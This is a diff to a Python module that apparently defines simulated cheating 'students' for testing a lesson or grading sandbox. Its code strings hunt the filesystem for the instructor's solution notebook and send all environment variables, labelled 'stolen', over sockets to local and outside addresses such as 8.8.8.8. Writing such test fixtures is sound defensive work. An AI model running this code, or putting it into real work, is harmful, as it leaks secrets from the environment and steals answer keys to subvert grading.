@@ -149,8 +149,9 @@ import glob, json, os
 found = []
 for base in ('../..', '../../..', '/work', '/root', '/tmp', '/home', os.path.expanduser('~'),
              '/proc/1/cwd', '/proc/%d/cwd' % os.getppid()):
-    found += glob.glob(os.path.join(base, '**', 'solutions', '01_alpha', 'alpha.ipynb'),
-                       recursive=True)[:1]
+    for depth in range(5):
+        found += glob.glob(os.path.join(base, *['*'] * depth, 'solutions', '01_alpha',
+                                        'alpha.ipynb'))
 if found:   # the instructor's source: run its relu
     nb = json.load(open(found[0]))
     src = [''.join(c['source']) for c in nb['cells'] if 'def relu' in ''.join(c['source'])]
@@ -260,10 +261,9 @@ print('tampered with', len(done), 'files')"""
 
 _NETWORK = """
 import os, socket
-port = int(os.environ.get('LESSONLIB_DEMO_PORT', '0') or 0)
-for host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):
+for host, port in (('127.0.0.1', 47831), ('10.0.2.2', 80), ('8.8.8.8', 53)):
     try:
-        s = socket.create_connection((host, port or 53), timeout=1)
+        s = socket.create_connection((host, port), timeout=1)
         s.sendall(b'stolen: ' + repr(dict(os.environ)).encode())
         s.close()
     except OSError:
@@ -307,6 +307,9 @@ for pid in (os.getppid(), 1, -1):
 _ENVIRON = """
 import os
 print({k: v for k, v in os.environ.items()})"""
+
+#: The port on 127.0.0.1 the "reader" student tries to send data to.
+NETWORK_PORT = 47831
 
 # What each student does, per assignment: a dict of changes (see _apply).
 DEMO_STUDENTS = {
